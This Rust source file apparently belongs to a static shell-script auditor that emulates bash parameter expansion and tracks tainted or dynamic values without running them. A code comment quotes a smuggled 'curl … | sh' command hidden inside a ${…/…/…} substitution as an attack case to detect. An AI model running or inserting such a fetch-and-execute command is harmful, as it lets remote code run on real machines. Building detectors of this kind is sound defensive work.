//! Parameters: a variable's value (positional and special ones too, array elements by index)
//! and `${…}` with its operators — defaults and alternatives, lengths, indirection, pattern
//! removal and substitution, case — applied as bash applies them, without running anything.

use std::rc::Rc;

use tree_sitter::Node;

use super::super::source::ParsedSrc;
use super::super::text::apply_op;
use super::super::walk::Walker;
use super::super::{Str, Val};
use super::{Acc, Piece};

impl Walker {
    /// The value of a variable (or positional/special parameter); `None` if unset.
    pub(in crate::audit::shell) fn lookup(
        &mut self,
        name: &str,
        index: Option<&str>,
        acc: &mut Acc,
    ) -> Option<Val> {
        if name == "IFS" {
            acc.ifs = true;
        }
        match name {
            "@" | "*" => return Some(Val::Array(self.positional.clone())),
            "#" => return Some(Val::Scalar(Str::lit(self.positional.len().to_string()))),
            "?" | "$" | "!" | "-" | "_" | "RANDOM" | "BASHPID" | "PPID" => {
                acc.dynamic = true;
                return Some(Val::Scalar(Str {
                    text: format!("${name}"),
                    dynamic: true,
                    ..Str::default()
                }));
            }
            "0" => return Some(Val::Scalar(Str::lit("bash"))),
            _ => {}
        }
        if let Ok(n) = name.parse::<usize>() {
            return self
                .positional
                .get(n.wrapping_sub(1))
                .cloned()
                .map(Val::Scalar);
        }
        let v = self.env.get(name)?.clone();
        match index {
            None => Some(Val::Scalar(v.first())),
            Some("@") | Some("*") => Some(Val::Array(v.items())),
            Some(i) => match i.trim().parse::<i64>() {
                Ok(i) => {
                    let items = v.items();
                    let idx = if i < 0 { items.len() as i64 + i } else { i };
                    usize::try_from(idx)
                        .ok()
                        .and_then(|i| items.get(i).cloned())
                        .map(Val::Scalar)
                }
                Err(_) => {
                    acc.dynamic = true;
                    Some(Val::Scalar(Str {
                        text: format!("${{{name}[{i}]}}"),
                        dynamic: true,
                        ..Str::default()
                    }))
                }
            },
        }
    }

    /// Pushes a value: arrays in "…[@]" become separate fields.
    pub(super) fn push_val(
        &mut self,
        val: Option<Val>,
        name: &str,
        quoted: bool,
        all: bool,
        acc: &mut Acc,
    ) {
        match val {
            None => {
                acc.dynamic = true;
                acc.text(format!("${{{name}}}"), false);
            }
            Some(Val::Scalar(s)) => {
                acc.taint_all(s.taint);
                acc.dynamic |= s.dynamic;
                acc.text(s.text, !quoted);
            }
            Some(Val::Array(items)) => {
                if !all && name != "@" && name != "*" {
                    let s = items.into_iter().next().unwrap_or_default();
                    acc.taint_all(s.taint);
                    acc.text(s.text, !quoted);
                    return;
                }
                if quoted && name == "*" {
                    for s in &items {
                        acc.taint_all(s.taint);
                        acc.dynamic |= s.dynamic;
                    }
                    let joined: Vec<&str> = items.iter().map(|s| s.text.as_str()).collect();
                    acc.text(joined.join(" "), false);
                    return;
                }
                for (i, s) in items.into_iter().enumerate() {
                    if i > 0 {
                        acc.pieces.push(Piece::Break);
                    }
                    acc.taint = acc.taint.with(s.taint);
                    acc.item_taints.push((acc.pieces.len(), s.taint));
                    acc.dynamic |= s.dynamic;
                    acc.text(s.text, !quoted);
                }
            }
        }
    }

    fn operand(&mut self, src: &Rc<ParsedSrc>, nodes: &[Node], acc: &mut Acc) -> String {
        let mut sub = Acc::default();
        for n in nodes {
            if n.kind() == "regex" {
                self.scan_leaf_text(src, *n);
                if super::super::walk::hides_subst(src.raw(*n)) {
                    sub.dynamic = true;
                }
                sub.text(src.raw(*n), false);
            } else {
                self.expand_node(src, *n, true, &mut sub);
            }
        }
        acc.taint_all(sub.taint);
        acc.dynamic |= sub.dynamic;
        acc.subs.extend(sub.subs.iter().copied());
        acc.ifs |= sub.ifs;
        acc.printable_escapes += sub.printable_escapes;
        sub.joined()
    }

    /// `${…}` with its operators.
    pub(super) fn expansion(
        &mut self,
        src: &Rc<ParsedSrc>,
        node: Node,
        quoted: bool,
        acc: &mut Acc,
    ) {
        // A substitution in an operand that the grammar split elsewhere than bash does
        // (`${y/`curl https://x/y | sh`/z}`: cut at the URL's first `/`, the backquote left as
        // text; attack 32 F17) is walked from the operand's own text.
        // Only `/` and `//` split their operand: a leaf elsewhere is scanned where it sits.
        let raw = src.raw(node);
        let inner = raw.strip_prefix("${").unwrap_or(raw);
        let inner = inner.strip_suffix('}').unwrap_or(inner);
        let after_name = inner.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
        if after_name.starts_with('/')
            && super::super::walk::hides_subst(after_name)
            && !holds_subst(node)
        {
            let operands = after_name.to_owned();
            if self.scan_text(src, node, &operands) {
                acc.dynamic = true;
            }
        }
        let mut prefix: Option<String> = None;
        let mut name: Option<String> = None;
        let mut index: Option<String> = None;
        let mut ops: Vec<(String, Vec<Node>)> = Vec::new();
        let mut c = node.walk();
        let kids: Vec<Node> = node.children(&mut c).collect();
        for (i, ch) in kids.iter().enumerate() {
            let k = ch.kind();
            if k == "${" || k == "}" {
                continue;
            }
            let is_op = node.field_name_for_child(i as u32) == Some("operator") || !ch.is_named();
            if name.is_none() {
                if is_op {
                    prefix = Some(src.raw(*ch).to_owned());
                    continue;
                }
                if k == "subscript" {
                    name = ch
                        .child_by_field_name("name")
                        .map(|n| src.raw(n).to_owned());
                    if let Some(ix) = ch.child_by_field_name("index") {
                        let w = self.expand_one(src, ix);
                        index = Some(w.text);
                    }
                } else {
                    name = Some(src.raw(*ch).to_owned());
                }
                continue;
            }
            if is_op {
                ops.push((src.raw(*ch).to_owned(), Vec::new()));
            } else if let Some(last) = ops.last_mut() {
                last.1.push(*ch);
            }
        }
        let name = match (name, &prefix) {
            (Some(n), _) => n,
            (None, Some(p)) => {
                let p = p.clone();
                prefix = None;
                p
            }
            (None, None) => return,
        };
        let all = matches!(index.as_deref(), Some("@") | Some("*"));
        let val = self.lookup(&name, index.as_deref(), acc);
        match prefix.as_deref() {
            Some("#") => {
                let n = match &val {
                    Some(Val::Array(a)) if all => a.len(),
                    Some(v) => v.first().text.chars().count(),
                    None => 0,
                };
                acc.text(n.to_string(), false);
                return;
            }
            Some("!") => {
                let target = val.map(|v| v.first().text).unwrap_or_default();
                let v = self.lookup(&target, None, acc);
                self.push_val(v, &target, quoted, false, acc);
                return;
            }
            _ => {}
        }
        let Some((op, operands)) = ops.first().cloned() else {
            self.push_val(val, &name, quoted, all, acc);
            return;
        };
        let is_set = val.is_some();
        let is_nonempty = val.as_ref().is_some_and(|v| match v {
            Val::Scalar(s) => !s.text.is_empty(),
            Val::Array(a) => !a.is_empty(),
        });
        match op.as_str() {
            ":-" | "-" | ":=" | "=" => {
                let use_default = if op.starts_with(':') {
                    !is_nonempty
                } else {
                    !is_set
                };
                if use_default {
                    let d = self.operand(src, &operands, acc);
                    if op.ends_with('=') {
                        self.env
                            .insert(name.clone(), Val::Scalar(Str::lit(d.clone())));
                    }
                    acc.text(d, !quoted);
                } else {
                    self.push_val(val, &name, quoted, all, acc);
                }
            }
            ":+" | "+" => {
                let cond = if op.starts_with(':') {
                    is_nonempty
                } else {
                    is_set
                };
                if cond {
                    let d = self.operand(src, &operands, acc);
                    acc.text(d, !quoted);
                }
            }
            _ => {
                let Some(v) = val else {
                    self.push_val(None, &name, quoted, all, acc);
                    return;
                };
                let a = self.operand(src, &operands, acc);
                let b = ops
                    .get(1)
                    .map(|(_, n)| n.clone())
                    .map(|n| self.operand(src, &n, acc));
                let items: Vec<Str> = v
                    .items()
                    .into_iter()
                    .map(|mut s| {
                        if s.dynamic {
                            return s;
                        }
                        s.text = apply_op(&op, &s.text, &a, b.as_deref());
                        s
                    })
                    .collect();
                let v = if all {
                    Val::Array(items)
                } else {
                    Val::Scalar(items.into_iter().next().unwrap_or_default())
                };
                self.push_val(Some(v), &name, quoted, all, acc);
            }
        }
    }
}

/// Whether the grammar found a substitution anywhere under `node`.
fn holds_subst(node: Node) -> bool {
    let mut c = node.walk();
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        if matches!(n.kind(), "command_substitution" | "process_substitution") {
            return true;
        }
        stack.extend(n.named_children(&mut c));
    }
    false
}
